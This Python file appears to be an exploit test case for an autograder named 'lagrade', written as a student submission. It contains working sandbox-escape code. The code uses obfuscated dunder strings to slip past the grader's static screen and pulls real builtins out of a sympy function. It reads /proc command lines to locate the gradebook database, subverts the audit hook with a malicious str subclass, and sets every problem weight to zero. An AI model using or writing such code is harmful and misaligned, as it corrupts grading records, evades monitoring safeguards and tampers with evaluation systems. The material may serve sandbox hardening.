"""effect: other-row
tries: in lagrade grade: route 1, find the gradebook through the ancestors' command lines and set the stored assignment's problem weight to 0 (points are computed at export from it).

Changes the class's points without touching any student's row.
"""

from lagrade.answer import *

# a sympy function's __builtins__ is the real builtins dict (not audited; the dunder is built at
# run time so the screen never sees it as a string constant)
from sympy import expand
from sympy.core.add import attrgetter

B = attrgetter("_" + "_builtins__")(expand)
imp = B["_" + "_import_" + "_"]
os_, sys_ = imp("o" + "s"), imp("s" + "ys")  # already imported: no "import" audit event
inspect = imp("inspect")
members = lambda obj: dict(inspect.getmembers(obj))

def gradebook():
    # lagrade grade ... --db X: the coordinator's command line, up the chain of parents
    pid = os_.getppid()
    for _ in range(8):
        argv = B["op" + "en"](f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
        if b"--db" in argv:
            return argv[argv.index(b"--db") + 1].decode()
        pid = int(B["op" + "en"](f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
        if pid <= 1:
            return None
    return None


def work():
    db = gradebook()
    if db is None:
        return
    sqlite3 = B["_" + "_import_" + "_"]("sqlite3")
    json_ = B["_" + "_import_" + "_"]("json")
    con = sqlite3.connect(db, timeout=30, isolation_level=None)
    assignment = json_.loads(con.execute("SELECT value FROM meta WHERE key = 'assignment'").fetchone()[0])
    for problem in assignment["problems"]:
        problem["weight"] = 0.0
    con.execute("UPDATE meta SET value = ? WHERE key = 'assignment'", (json_.dumps(assignment),))
    con.close()

ran = []


def once():
    if not ran:
        ran.append(1)
        work()


# route 1: the hook does str(args[0]) for "import" events while it has set self.busy; a str
# subclass whose __str__ is ours runs with every check off. sys.audit calls the hook directly.
def hook_str(self):
    once()
    return "sympy"


Evil = type("Evil", (str,), {"_" + "_str_" + "_": hook_str})
sys_.audit("import", Evil("anything"))
once()  # if no hook ran it (none installed, or one that never calls student code): try anyway
